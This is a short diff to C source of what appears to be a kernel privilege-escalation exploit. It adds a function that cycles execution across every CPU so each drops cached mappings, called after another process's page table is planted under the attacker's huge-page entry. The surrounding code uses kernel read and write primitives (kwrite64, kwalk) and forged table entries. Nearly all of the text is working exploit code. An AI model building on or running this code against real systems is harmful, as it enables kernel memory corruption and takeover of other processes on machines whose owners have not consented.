@@ -152,6 +152,15 @@ static void put_back(const struct others *others)
 			kwrite64(others->table + i * sizeof(uint64_t), others->entry[i]);
 }
 
+/* Each CPU loads the attacker's root, and so knows nothing of the victim's. */
+static void forget_mappings(void)
+{
+	int cpu, nr = sysconf(_SC_NPROCESSORS_ONLN);
+
+	for (cpu = nr - 1; cpu >= 0; cpu--)
+		stay_on_cpu(cpu);
+}
+
 /*
  * A deposit is filled when the huge page is split: with what the attacker has at
  * the same place of his huge page. Here it is the table of another process.
@@ -176,6 +185,7 @@ enum outcome deposit_table_of_victim(void)
 	kwalk((uint64_t)huge.at, LEVEL_PMD, 0, &pmd);
 	if ((pmd.value & PTE_PFN_MASK) != others.phys)
 		return lost("the stores gave %d, and another table was put under the entry", err);
+	forget_mappings();
 	outcome = judge_forged(forged, err);
 	if (!collapse(huge.at))
 		return broken("the page cannot be a deposit again");
